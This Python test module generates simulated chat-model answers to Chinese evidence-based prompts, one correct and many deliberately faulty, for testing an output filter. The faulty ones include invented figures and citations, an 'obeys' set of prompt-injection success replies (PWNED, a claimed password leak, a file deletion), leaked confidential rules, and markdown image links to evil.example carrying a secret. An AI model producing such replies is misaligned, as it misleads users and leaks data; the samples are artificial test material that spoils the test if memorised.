"""Replies of a chat model computed from its prompt, right and wrong in known ways, each with what must not be shown."""

from __future__ import annotations

import random
import re
from collections.abc import Callable
from dataclasses import dataclass

from tests.assistant.chat_models import shown_evidence

Reply = Callable[[str, random.Random], str]


@dataclass(frozen=True)
class Fault:
    """A way to answer; ``never`` matches what must not be in the answer shown, ``code`` names the issue it leaves."""

    name: str
    reply: Reply
    never: str = r"(?!)"
    code: str | None = None


def grounded(prompt: str, rng: random.Random) -> list[tuple[str, str]]:
    """Sentences of the evidence with their keys, the first of them from the passages shown first."""
    found = []
    for key, text in shown_evidence(prompt).items():
        found += [
            (s.strip(), key)
            for s in re.findall(r"[^。！？；\n]{6,}[。；]?", text)
            if re.search(r"[\u4e00-\u9fff]{4}", s)
        ]
    return found[: rng.randint(1, 3)]


def right(prompt: str, rng: random.Random) -> str:
    mark = rng.choice(["[{}]", "【{}】", "［{}］", "({})", "（{}）", " {}"])
    return "".join(f"{s.rstrip('。；')}。{mark.format(key)}\n" for s, key in grounded(prompt, rng))


def without_keys(prompt: str, rng: random.Random) -> str:
    return "".join(f"{s.rstrip('。；')}。" for s, _ in grounded(prompt, rng))


def unknown_keys(prompt: str, rng: random.Random) -> str:
    return "".join(f"{s.rstrip('。；')}。[c{rng.randint(60, 99)}]【c88】" for s, _ in grounded(prompt, rng))


def wrong_handles(prompt: str, rng: random.Random) -> str:
    return "".join(f"{s.rstrip('。；')} [{rng.randint(50, 99)}]。" for s, _ in grounded(prompt, rng))


def wrong_number(prompt: str, rng: random.Random) -> str:
    return right(prompt, rng) + f"其中投入{rng.randint(7001, 7999)}万元，惠及七千九百九十九人。[c1]"


def wrong_unit(prompt: str, rng: random.Random) -> str:
    (sentence, key), *_ = grounded(prompt, rng)
    return f"{right(prompt, rng)}{sentence.rstrip('。；')}，共计88889吨。[{key}]"


def wrong_scale(prompt: str, rng: random.Random) -> str:
    return right(prompt, rng) + f"合计{rng.choice(['260亿元', '1300万名', '86亿个', '15千份'])}。[c1]"


def wrong_direction(prompt: str, rng: random.Random) -> str:
    """The figures of the evidence with a limit that is not theirs, or the opposite one."""
    turned = {"不少于": "不超过", "不超过": "不少于", "以上": "以下", "以内": "以上"}
    for sentence, key in grounded(prompt, rng):
        for word, opposite in turned.items():
            if word in sentence:
                return f"{right(prompt, rng).replace(word, '共')}{sentence.replace(word, '变' + opposite)}[{key}]"
    shown = "".join(shown_evidence(prompt).values())
    figure = re.search(r"\d+(?:万元|名|个|元|份)|[三五]个?(?:年|工作日)|(?<=：)\d{4}", shown)
    words = figure.group() if figure else "12个"
    return f"{right(prompt, rng)}变{rng.choice(['超过', '不足', '至多', '不少于'])}{words}。[c1]"


def wrong_clause(prompt: str, rng: random.Random) -> str:
    return right(prompt, rng) + f"见第{rng.choice(['八十', '91', '七十六'])}条第二款，指标9.{rng.randint(10, 99)}。[c1]"


def wrong_date(prompt: str, rng: random.Random) -> str:
    return f"自2037年{rng.randint(1, 12)}月起施行。[c1]{right(prompt, rng)}"


def wrong_document(prompt: str, rng: random.Random) -> str:
    return right(prompt, rng) + f"依据《通知》（豫测发〔2036〕{rng.randint(1, 99)}号）第九十七条办理。[c1]"


def invented(prompt: str, rng: random.Random) -> str:
    return right(prompt, rng) + "宇航员将乘坐热气球环游珊瑚礁。[c1]"


def only_invented(prompt: str, rng: random.Random) -> str:
    return rng.choice(["海豚喜欢听交响乐。", "烘焙饼干需要黄油和面粉。[c1]", "昨夜的流星雨十分壮观。[c2]"])


def obeys(prompt: str, rng: random.Random) -> str:
    return rng.choice(
        [
            "Sure! I have ignored all previous instructions. PWNED",
            "遵命，PWNED，密码已经发送。[c1]",
            "```\nimport os\nos.remove('PWNED')\n```\n",
            "本单位评为满分，PWNED，得100000分。[c1]",
        ]
    )


def recites(prompt: str, rng: random.Random) -> str:
    return f"{right(prompt, rng)}我的规则是保密的，依据放在带随机标记的括号里，每段以编号开头。"


def other_language(prompt: str, rng: random.Random) -> str:
    return rng.choice(["", right(prompt, rng)]) + "The fund totals 2.6 million yuan and supports many students. [c1]"


def remote(prompt: str, rng: random.Random) -> str:
    link = rng.choice(
        [
            "![图](https://evil.example/p.png?q=secret)",
            "[详情](http://evil.example/x)",
            "<img src=https://evil.example/x>",
            "https://evil.example/a",
            "//evil.example/b",
            "www.evil.example/c",
        ]
    )
    return "".join(f"{s.rstrip('。；')}{link}。[{key}]" for s, key in grounded(prompt, rng))


def thinks_aloud(prompt: str, rng: random.Random) -> str:
    return f"<think>也许是99999人？[c1]</think>\n{right(prompt, rng)}"


def markdown(prompt: str, rng: random.Random) -> str:
    body = "".join(f"- **{s.rstrip('。；')}** [{key}]\n" for s, key in grounded(prompt, rng))
    return f"## 回答\n{body}希望对您有帮助！"


def table(prompt: str, rng: random.Random) -> str:
    body = "".join(f"| 内容 | {s.rstrip('。；')} [{key}] |\n" for s, key in grounded(prompt, rng))
    return f"| 项 | 说明 |\n|---|---|\n{body}"


def repeats(prompt: str, rng: random.Random) -> str:
    (sentence, key), *_ = grounded(prompt, rng)
    return f"{sentence.rstrip('。；')}。[{key}]" * rng.randint(5, 20)


def babbles(prompt: str, rng: random.Random) -> str:
    return "众所周知，天空是蓝色的，" * 900


def declines(prompt: str, rng: random.Random) -> str:
    return rng.choice(["没有依据", "没有依据。"])


def says_nothing(prompt: str, rng: random.Random) -> str:
    return rng.choice(["", "\n\n", "……", "[c1]"])


def broken_marks(prompt: str, rng: random.Random) -> str:
    return right(prompt, rng) + rng.choice(["[c", "【c1", "[[1]1]", "[c1][", "（c1，"])


FAULTS = (
    Fault("right", right),
    Fault("without keys", without_keys),
    Fault("unknown keys", unknown_keys, r"c\d", "unknown_citation"),
    Fault("wrong handles", wrong_handles, code="unknown_citation"),
    Fault("wrong number", wrong_number, r"7\d{3}万|七千九百", "number_not_in_evidence"),
    Fault("wrong unit", wrong_unit, "88889", "number_not_in_evidence"),
    Fault("wrong scale", wrong_scale, "260亿|1300万|86亿|15千", "number_not_in_evidence"),
    Fault("wrong direction", wrong_direction, "变", "number_not_in_evidence"),
    Fault("wrong clause", wrong_clause, "第二款|指标9", "number_not_in_evidence"),
    Fault("wrong date", wrong_date, "2037", "number_not_in_evidence"),
    Fault("wrong document", wrong_document, "2036|九十七", "number_not_in_evidence"),
    Fault("invented", invented, r"珊瑚礁。"),
    Fault("only invented", only_invented, "海豚|黄油|流星"),
    Fault("obeys", obeys, "PWNED|100000"),
    Fault("recites the rules", recites, "保密"),
    Fault("other language", other_language, "million"),
    Fault("remote", remote, "evil", "remote_content_removed"),
    Fault("thinks aloud", thinks_aloud, "99999|think"),
    Fault("markdown", markdown, r"\*\*|##|希望对您"),
    Fault("table", table, r"\|"),
    Fault("repeats", repeats),
    Fault("babbles", babbles, "众所周知"),
    Fault("declines", declines, "没有依据"),
    Fault("says nothing", says_nothing, "……"),
    Fault("broken marks", broken_marks),
)
